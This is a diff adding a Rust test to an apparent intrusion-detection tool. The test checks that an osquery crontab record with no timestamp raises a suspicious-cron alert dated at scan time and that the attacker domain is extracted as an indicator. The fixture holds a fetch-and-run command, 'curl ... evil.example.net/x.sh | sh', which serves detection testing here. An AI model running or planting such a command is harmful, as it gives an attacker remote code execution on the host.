@@ -272,6 +272,42 @@ fn config_turns_on_office_network_logins_and_versions() {
 }
 
 #[test]
+fn a_record_without_a_time_alerts_at_the_scan_time() {
+    let record = r#"{"name":"pack_tripline-linux_crontab","hostIdentifier":"web-01","action":"added","columns":{"command":"curl -s http://evil.example.net/x.sh | sh","path":"/etc/crontab"}}"#;
+    let now = || {
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs() as i64
+    };
+    let before = now();
+    let out = tripline_stdin(
+        &["scan", "-", "--format", "ndjson"],
+        Some(record.as_bytes()),
+    );
+    let after = now();
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let s = summary(&out);
+    assert_eq!(s["rule_errors"], 0);
+    assert!(s["matches_on_scan_time"] >= 1, "{s:?}");
+    let alerts = alerts(&out);
+    let cron = find(&alerts, "osquery_suspicious_cron", "web-01");
+    assert_eq!(cron["time_from"], "object");
+    let first_seen = time::OffsetDateTime::parse(
+        cron["first_seen"].as_str().unwrap(),
+        &time::format_description::well_known::Rfc3339,
+    )
+    .unwrap()
+    .unix_timestamp();
+    assert!((before..=after).contains(&first_seen), "{cron}");
+    // The URL in the command line is an indicator.
+    assert_eq!(
+        cron["samples"][0]["indicators"]["domain"],
+        serde_json::json!(["evil.example.net"])
+    );
+}
+
+#[test]
 fn alert_ids_are_stable_across_runs_and_input_forms() {
     let ids = |out: &Output| {
         let mut v: Vec<String> = alerts(out)
